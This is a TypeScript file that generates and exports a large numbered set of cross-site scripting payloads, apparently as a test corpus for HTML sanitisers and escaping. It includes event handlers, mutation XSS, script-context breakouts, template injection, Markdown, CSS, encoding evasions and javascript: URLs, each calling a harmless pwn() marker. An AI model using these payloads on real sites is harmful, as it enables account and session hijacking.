/** What would show that it ran: `pwn(<its number>)`. */
type Shape = (call: string) => string

/** Elements that load, fail, play, open or take the cursor by themselves. */
const eager = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe src=/x',
  'object data=/x',
  'embed src=/x',
  'a href=/x autofocus',
  'div tabindex=0 autofocus style=animation:x',
  'math',
  'marquee',
  'link rel=stylesheet href=/x',
  'style',
]
const handlers = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerover']

const inAttributes: Shape[] = eager.flatMap((element) =>
  handlers.map(
    (handler, place): Shape =>
      (call) =>
        [
          `<${element} ${handler}=${call}>`,
          `"><${element} ${handler}="${call}">`,
          `'><${element}/${handler}='${call}'>`,
        ][place % 3] ?? '',
  ),
)

const tags: Shape[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  (call) => `<script/x>${call}</script\n>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="data:text/html;base64,${btoa(`<script>parent.${call}</script>`)}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) => `<button formaction="javascript:${call}" form=x>x</button>`,
  (call) => `<isindex type=image src=x onerror=${call}>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<div><template shadowrootmode=open><img src=x onerror=${call}></template></div>`,
  (call) => `<xml id=x><a><b>&lt;script&gt;${call}&lt;/script&gt;</b></a></xml>`,
]

const drawings: Shape[] = [
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  (call) => `<svg><set onbegin=${call} attributeName=x></svg>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}></svg>#x"/></svg>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  (call) => `<svg><image href=x onerror=${call}></svg>`,
  (call) =>
    `<math><maction actiontype=statusline xlink:href="javascript:${call}">x</maction></math>`,
  (call) => `<math href="javascript:${call}">x</math>`,
]

/** What one parser reads otherwise than the next. */
const mutations: Shape[] = [
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}></style>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  (call) => `<table><td><svg><desc><img src=x onerror=${call}></desc></svg></td></table>`,
  (call) =>
    `<select><template><style><!--</style><img src=x onerror=${call}>--></template></select>`,
  (call) => `<svg><title><![CDATA[</title><img src=x onerror=${call}>]]></svg>`,
  (call) => `<p id="--><img src=x onerror=${call}>"><!-- <p> -->`,
  (call) => `<a title="\`<img src=x onerror=${call}>\`">x</a>`,
  (call) => `<div id="a\u0000"><img src=x onerror=${call}>`,
]

const endings = ['textarea', 'title', 'style', 'script', 'noscript', 'select', 'option', 'iframe']
const breakers: Shape[] = [
  ...endings.map(
    (name): Shape =>
      (call) =>
        `</${name}><img src=x onerror=${call}>`,
  ),
  (call) => `--><img src=x onerror=${call}><!--`,
  (call) => `]]><img src=x onerror=${call}>`,
  (call) => `"autofocus onfocus="${call}`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `\` autofocus onfocus=\`${call}`,
  (call) => `" onerror=${call} x="`,
  (call) => `?><img src=x onerror=${call}>`,
]

/** What breaks out of JSON-LD, or out of data inside a script. */
const data: Shape[] = [
  (call) => `</script><script>${call}</script>`,
  (call) => `"}</script><script>${call}//`,
  (call) => `<!--<script>${call}`,
  (call) => `\\u003c/script\\u003e\\u003cscript\\u003e${call}`,
  (call) => `"};${call};//`,
  (call) => `\u2028${call}//`,
  (call) => `\\"};${call};//`,
  (call) => `*/${call}/*`,
  (call) => `</ScRiPt\t><svg onload=${call}>`,
  (call) => `__proto__":{"onload":"${call}"},"x":"`,
]

const templates: Shape[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `{%${call}%}`,
  (call) => `[[${call}]]`,
  (call) => `<div ng-app ng-csp><p ng-click="${call}">x</p></div>`,
  (call) => `<x-y onclick=${call} @load="${call}" :src="${call}" v-html="${call}">`,
]

const marked: Shape[] = [
  (call) => `[x](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `[x](<javascript:${call}>)`,
  (call) => `<javascript:${call}>`,
  (call) => `[x]: javascript:${call}`,
  (call) => `\`\`\`html\n<script>${call}</script>\n\`\`\``,
  (call) => `**<img src=x onerror=${call}>**`,
  (call) => `^[<img src=x onerror=${call}>]`,
]

const styled: Shape[] = [
  (call) => `<style>@import "javascript:${call}";</style>`,
  (call) => `<style>*{background:url("javascript:${call}")}</style>`,
  (call) => `<p style="background:url(javascript:${call})">x</p>`,
  (call) => `<p style="width:expression(${call})">x</p>`,
  (call) => `<p style="-moz-binding:url(data:text/xml,${call})">x</p>`,
  (call) => `}</style><svg onload=${call}>`,
  (call) => `";}</style><script>${call}</script>`,
]

const coded: Shape[] = [
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `&#x3C;svg onload=${call}&#x3E;`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `<\u0000script>${call}</script>`,
  (call) => `<img src=x onerror\u3000=${call}>`,
  (call) => `<img src=x \u202eonerror=${call}>`,
  (call) => `<img src=x onerror=${call.replace('(', '&#40;').replace(')', '&#41;')}>`,
  (call) => `<img\u000bsrc=x\u000conerror=${call}>`,
]

/** Addresses that run when they are followed. */
const addresses: Shape[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => ` javascript:${call}`,
  (call) => `javascript://bao.example/%0a${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>opener.${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>opener.${call}</script>`)}`,
  (call) => `data:image/svg+xml,<svg onload=${call}>`,
  (call) => `view-source:javascript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `blob:javascript:${call}`,
]

const numbered = (shapes: readonly Shape[], from: number) =>
  shapes.map((shape, place) => shape(`pwn(${from + place})`))

const texts = [
  ...inAttributes,
  ...tags,
  ...drawings,
  ...mutations,
  ...breakers,
  ...data,
  ...templates,
  ...marked,
  ...styled,
  ...coded,
]

/** A few hundred texts that would run as script where somebody forgot to escape; each calls `pwn` with its number. */
export const scriptTexts = numbered(texts, 1)

/** Addresses that would run as script where somebody forgot to look at them. */
export const scriptAddresses = numbered(addresses, texts.length + 1)
